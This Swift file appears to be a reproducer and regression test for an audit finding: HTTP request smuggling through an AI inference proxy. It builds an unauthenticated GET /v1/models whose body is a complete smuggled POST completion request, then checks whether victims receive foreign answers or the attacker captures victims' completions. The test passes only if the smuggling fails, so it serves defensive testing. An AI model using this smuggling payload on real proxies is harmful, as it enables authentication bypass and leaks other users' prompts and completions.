import Foundation
import Synchronization

/// Finding 1: `GET /v1/models` (no token) carrying a body that is itself a completion request.
///
/// The attacker sends it, then token-holding victims send their own completions, then the attacker asks
/// for `/v1/models` again. The upstream's request log says what reached it and which request body each
/// completion id answered, so every answer can be traced to the request it belongs to.
struct SmugglingResult: Codable, Sendable {
    var upstream: String
    var rounds = 0
    /// Status the attacker's smuggling request got, per round.
    var attackerStatuses: [Int] = []
    /// Requests the upstream logged from the attacks (the GETs and anything smuggled behind them).
    var upstreamRequestsFromAttack = 0
    /// How the proxy framed the GET upstream (content_length / transfer_encoding as logged).
    var upstreamFramingOfGet: String?
    /// The smuggled POST reached the upstream as a request of its own.
    var smuggledRequestReachedUpstream = false
    var victims = 0
    /// Victims whose answer was produced for another request body (the attacker's, or another victim's).
    var victimsGivenAnotherAnswer = 0
    /// Of those, victims whose `/v1/signature` signs their request with the foreign answer, and it verifies.
    var foreignAnswersSignedAndVerifying = 0
    /// The attacker's follow-up `/v1/models` requests that returned a completion.
    var attackerFollowUpsWithCompletion = 0
    /// Of those, completions the upstream made for a victim's request (a victim's answer leaked).
    var attackerGotVictimCompletion = 0
    var upstreamTotalRequests = 0
    var details: [String] = []
    var pass = false
}

enum SmugglingReproducer {
    /// - Parameters:
    ///   - generationMs: how long the upstream takes before each completion's head (`mock_header_delay_ms`),
    ///     as a real model does; the smuggled answer is then still on its way when the next client's
    ///     request is written on the same pooled connection.
    ///   - rounds: attack, then `victims` concurrent victims, then `victims` concurrent follow-ups, this many
    ///     times (concurrent, so that some land on the attacker's event loop and its pooled connection).
    static func run(proxyPort: Int, upstream: Fleet.Upstream, rounds: Int = 3, victims: Int = 4, generationMs: Int = 600)
        -> SmugglingResult
    {
        var result = SmugglingResult(upstream: upstream.name)
        let checker = SignatureChecker(port: proxyPort, token: Fleet.token)
        let before = upstream.requests().count
        let found = Mutex<SmugglingResult>(result)
        let victimBodies = Mutex<Set<String>>([])
        var attackerFNVs: Set<String> = []
        var lastAttackLines = before

        for round in 0..<rounds {
            // The attacker: no token; the body is a complete completion request of its own.
            let attackerJSON = RawRequest.completionBody(
                content: "ATTACKER chosen prompt \(round)", stream: false, maxTokens: 3, headerDelayMs: generationMs)
            let smuggled = Array("POST /v1/chat/completions HTTP/1.1\r\nHost: vllm\r\nContent-Type: application/json\r\nContent-Length: \(attackerJSON.count)\r\n\r\n".utf8) + attackerJSON
            let attack = Array("GET /v1/models HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: \(smuggled.count)\r\n\r\n".utf8) + smuggled
            attackerFNVs.insert(UpstreamRequest.fnv1a64(attackerJSON))
            if let socket = try? RawSocket(port: proxyPort) {
                let conversation = Conversation.exchange(socket, request: attack, policy: ReadPolicy(overall: .seconds(5)))
                result.attackerStatuses += conversation.responses.map(\.status)
                socket.close()
            }
            Thread.sleep(forTimeInterval: 0.1)
            // What reached the upstream from this attack, before any victim: the GET and what it carried.
            let lines = upstream.requests()
            let fromAttack = lines[min(lastAttackLines, lines.count)...]
            lastAttackLines = lines.count
            found.withLock {
                $0.upstreamRequestsFromAttack += fromAttack.count
                if fromAttack.contains(where: { $0.method == "POST" }) { $0.smuggledRequestReachedUpstream = true }
                if $0.upstreamFramingOfGet == nil, let get = fromAttack.first(where: { $0.method == "GET" }) {
                    $0.upstreamFramingOfGet = "content_length=\(get.contentLength ?? "none") transfer_encoding=\(get.transferEncoding ?? "none")"
                }
            }

            // Victims: authenticated completions, at once, on fresh connections.
            let attackerSet = attackerFNVs
            onThreads(victims) { index in
                let body = RawRequest.completionBody(
                    content: "VICTIM \(round).\(index) private prompt", stream: false, maxTokens: 4, headerDelayMs: generationMs)
                let own = UpstreamRequest.fnv1a64(body)
                victimBodies.withLock { _ = $0.insert(own) }
                guard let socket = try? RawSocket(port: proxyPort) else { return }
                let conversation = Conversation.exchange(
                    socket, request: RawRequest.post(body: body, token: Fleet.token, close: true), policy: ReadPolicy(overall: .seconds(15)))
                socket.close()
                found.withLock { $0.victims += 1 }
                guard let response = conversation.responses.first, response.status == 200, let id = BodyScan.firstID(response.body) else {
                    found.withLock { $0.details.append("victim \(round).\(index): status \(conversation.first?.status ?? 0)") }
                    return
                }
                let producedFor = upstream.requests().first { $0.id == id }?.bodyFNV1a64
                guard producedFor != own else { return }
                let whose = producedFor.map { attackerSet.contains($0) } == true ? "the attacker's" : "another request's"
                let (verdict, _) = checker.judgeDelivered(id: id, request: body, response: response.body)
                found.withLock {
                    $0.victimsGivenAnotherAnswer += 1
                    if verdict == .verified || verdict == .publishedLate { $0.foreignAnswersSignedAndVerifying += 1 }
                    $0.details.append("victim \(round).\(index) got \(whose) completion \(id); signed under the victim's request: \(verdict.rawValue)")
                }
            }

            // The attacker asks again, from as many connections: does a victim's completion come back?
            onThreads(victims) { index in
                guard let socket = try? RawSocket(port: proxyPort) else { return }
                let conversation = Conversation.exchange(
                    socket, request: RawRequest.get("/v1/models", token: nil, close: true), policy: ReadPolicy(overall: .seconds(15)))
                socket.close()
                guard let response = conversation.responses.first, BodyScan.looksLikeCompletion(response.body) else { return }
                let producedFor = BodyScan.firstID(response.body).flatMap { id in upstream.requests().first { $0.id == id }?.bodyFNV1a64 }
                let victim = producedFor.map { hash in victimBodies.withLock { $0.contains(hash) } } ?? false
                found.withLock {
                    $0.attackerFollowUpsWithCompletion += 1
                    if victim {
                        $0.attackerGotVictimCompletion += 1
                        $0.details.append("attacker follow-up \(round).\(index) got a victim's completion, prompt and all")
                    }
                }
            }
            Thread.sleep(forTimeInterval: Double(generationMs) / 1000 + 0.3)
            lastAttackLines = upstream.requests().count
        }
        let figures = found.withLock { $0 }
        result.victims = figures.victims
        result.victimsGivenAnotherAnswer = figures.victimsGivenAnotherAnswer
        result.foreignAnswersSignedAndVerifying = figures.foreignAnswersSignedAndVerifying
        result.attackerFollowUpsWithCompletion = figures.attackerFollowUpsWithCompletion
        result.attackerGotVictimCompletion = figures.attackerGotVictimCompletion
        result.upstreamRequestsFromAttack = figures.upstreamRequestsFromAttack
        result.smuggledRequestReachedUpstream = figures.smuggledRequestReachedUpstream
        result.upstreamFramingOfGet = figures.upstreamFramingOfGet
        result.details = figures.details
        result.rounds = rounds
        result.upstreamTotalRequests = upstream.requests().count - before
        result.pass = !result.smuggledRequestReachedUpstream && result.victimsGivenAnotherAnswer == 0
            && result.attackerFollowUpsWithCompletion == 0 && result.upstreamRequestsFromAttack <= rounds
        return result
    }
}
